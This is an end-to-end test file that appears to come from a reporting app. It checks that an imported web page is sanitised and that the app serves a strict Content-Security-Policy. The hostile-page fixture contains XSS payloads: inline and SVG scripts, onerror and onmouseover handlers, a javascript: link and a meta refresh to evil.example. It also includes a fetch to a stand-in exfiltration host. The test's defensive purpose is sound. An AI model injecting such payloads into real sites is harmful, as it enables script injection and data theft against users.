import { test, expect } from './fixtures';
import { SYNC_SERVER_URL } from './sync-url';

const HOSTILE_PAGE = `<!doctype html>
<html lang="en"><head><title>Hostile page</title>
<script>window.__pwned = 'head script'; fetch('https://exfil.example/steal');</script>
<link rel="stylesheet" href="https://cdn.example/style.css">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
</head><body>
<article>
<h1>Report from Ménaka</h1>
<p>Armed men attacked the village at dawn, according to residents who fled towards Ménaka and Anderamboukane.</p>
<p>Local officials said the attackers came on motorbikes and burned granaries before leaving.</p>
<img src="x" onerror="window.__pwned = 'onerror'; alert('onerror')">
<img src="https://tracker.example/pixel.gif" alt="tracking pixel">
<script>window.__pwned = 'body script'; alert('script')</script>
<a href="javascript:alert('link')" id="bad-link">Read more</a>
<iframe src="https://evil.example/frame"></iframe>
<svg><script>alert('svg')</script></svg>
<form action="https://evil.example/post"><input name="q"><button>Go</button></form>
<p style="background-image:url(https://tracker.example/bg.png)" onmouseover="alert('hover')">Hover text</p>
</article>
</body></html>`;

test('imports a hostile web page without running or loading anything from it', async ({
  app,
  page,
  dialogs,
  outsideRequests,
}) => {
  await app.nav('Sources').click();
  await app.importFiles.setInputFiles({
    name: 'hostile.html',
    mimeType: 'text/html',
    buffer: Buffer.from(HOSTILE_PAGE),
  });
  await app.openSource('Hostile page');
  await expect(app.reader).toContainText('Armed men attacked the village at dawn');

  const body = app.reader.locator('.source-body');
  await body.getByText('Hover text').hover();
  await body.getByText('Read more').click();
  await expect(body.locator('script, iframe, svg, form, [onerror], [onmouseover], [style]')).toHaveCount(0);
  await expect(body.locator('img[src]')).toHaveCount(0);

  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(outsideRequests).toEqual([]);
  expect(page.url()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
});

test('serves the app with a Content-Security-Policy that allows no other origin than the team’s server', async ({
  page,
  app,
}) => {
  const response = await page.request.get('/');
  const csp = response.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval';");
  expect(csp).not.toContain("'unsafe-eval'");
  expect(csp).toContain("object-src 'none'");
  // The one other origin: the team server the web app was served for (FIELDBOOK_SYNC_SERVERS),
  // for connections only.
  const directives = csp.split(';').map((d) => d.trim());
  expect(directives).toContain(`connect-src 'self' ${SYNC_SERVER_URL}`);
  for (const directive of directives.filter((d) => !d.startsWith('connect-src')))
    expect(directive).not.toMatch(/https?:|\*/);
  await expect(app.page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    csp,
  );
});
